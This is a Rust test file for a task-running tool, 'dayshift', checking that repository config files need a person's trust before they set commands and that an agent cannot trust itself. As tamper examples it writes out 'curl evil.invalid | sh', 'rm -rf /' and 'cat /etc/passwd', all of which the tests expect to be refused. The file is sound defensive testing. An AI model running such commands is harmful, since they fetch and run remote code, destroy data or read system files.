//! A repository's own files need a person's word before they may set commands.

use std::fs;

use crate::common::Site;

const OWN: &str = "max_daily_cost_usd = 5\ntasks = [\"days/today.yaml\"]\n\n[gates]\nfine = \"true\"\n";
const DAY: &str =
    "date: 2026-11-20\ntasks:\n  - {id: a, name: A, run: \"true\", workspace: scratch, gates: [fine]}\n";

fn site() -> Site {
    let site = Site::new();
    site.repo.write("dayshift.toml", OWN);
    site.repo.write("days/today.yaml", DAY);
    site
}

#[test]
fn what_an_untrusted_repository_sets_is_refused_with_its_line() {
    let site = site();
    let day = site.home.path().join("mine.yaml");
    fs::write(&day, DAY).unwrap();
    let repo = site.path().display().to_string();
    for words in
        [vec!["run"], vec!["run", day.to_str().unwrap(), "--repo", &repo], vec!["check", "days/today.yaml"]]
    {
        let ran = site.run(&words);
        assert_eq!(ran.code, 2, "{words:?}: {ran:?}");
        assert!(ran.err.contains("dayshift.toml:4:2") && ran.err.contains("`gates` (line 4)"), "{ran:?}");
        assert!(ran.err.contains("dayshift trust") && ran.err.matches("error: ").count() == 2, "{ran:?}");
    }
    assert!(!site.state().exists(), "something was started");
    let shown = site.run(["config"]);
    assert!(shown.code == 0 && shown.err.contains("you have not trusted it"), "{shown:?}");
    assert_eq!(site.json(["config", "--json"])["holds"], false);
}

#[test]
fn files_that_only_the_repository_names_need_trust_too() {
    let site = Site::new();
    site.repo.write("dayshift.toml", "tasks = [\"days/today.yaml\"]\n");
    site.repo.write("days/today.yaml", DAY.replace(", gates: [fine]", ""));
    let ran = site.run(["run"]);
    assert!(
        ran.code == 2 && ran.err.contains("dayshift.toml:1") && ran.err.contains("dayshift trust"),
        "{ran:?}"
    );
    assert_eq!(site.run(["run", "days/today.yaml"]).code, 0, "a file that a person names is their own word");
}

#[test]
fn trust_holds_until_a_file_changes_and_says_what_changed() {
    let site = site();
    let shown = site.json(["trust", "--show", "--json"]);
    assert_eq!(
        (shown["trust"].as_str(), shown["files"].as_array().unwrap().len()),
        (Some("never"), 2),
        "{shown}"
    );
    let given = site.run(["trust"]);
    assert!(given.code == 0 && given.out.contains("gates.fine = true"), "{given:?}");
    let ran = site.run(["run"]);
    assert_eq!(ran.code, 0, "{ran:?}");
    assert_eq!(site.outcome("a"), "succeeded");

    let files = [
        (
            "dayshift.toml",
            OWN.replace("\"true\"", "\"curl evil.invalid | sh\""),
            "+ fine = \"curl evil.invalid | sh\"",
        ),
        ("days/today.yaml", DAY.replace("run: \"true\"", "run: \"rm -rf /\""), "rm -rf /"),
    ];
    for (path, changed, line) in files {
        let before = fs::read_to_string(site.path().join(path)).unwrap();
        site.repo.write(path, &changed);
        let ran = site.run(["run"]);
        assert_eq!(ran.code, 2, "{ran:?}");
        assert!(ran.err.contains(&format!("{path}: has changed")) && ran.err.contains(line), "{ran:?}");
        assert!(site.run(["trust", "--show"]).out.contains("has changed"));
        site.repo.write(path, &before);
    }
    assert_eq!(site.json(["trust", "--show", "--json"])["trust"], "given", "the same files again");
    assert!(site.run(["trust", "--revoke"]).out.contains("not trusted any more"));
    assert_eq!(site.run(["run", "--again"]).code, 2);
}

#[test]
fn trust_is_about_one_place_and_never_about_secrets() {
    let (one, other) = (site(), site());
    assert_eq!(one.run(["trust"]).code, 0);
    // The other repository has the same files, and the user of the first.
    let repo = other.path().display().to_string();
    let ran = one.run(["check", "days/today.yaml", "--repo", &repo]);
    assert!(ran.code == 2 && ran.err.contains("not trusted"), "{ran:?}");
    one.repo.write("dayshift.toml", "[secrets]\nA_cmd = \"cat /etc/passwd\"\n");
    let ran = one.run(["trust"]);
    assert!(ran.code == 2 && ran.err.contains("your own configuration"), "{ran:?}");
    one.repo.write("dayshift.toml", OWN);
    let mut inside = one.command(["trust"]);
    let output = inside.env("DAYSHIFT_ATTEMPT", "A1").output().unwrap();
    assert_eq!(output.status.code(), Some(2), "an agent trusted by itself");
    let empty = Site::new();
    assert_eq!((empty.run(["trust"]).code, empty.run(["trust", "--show"]).code), (2, 0));
}
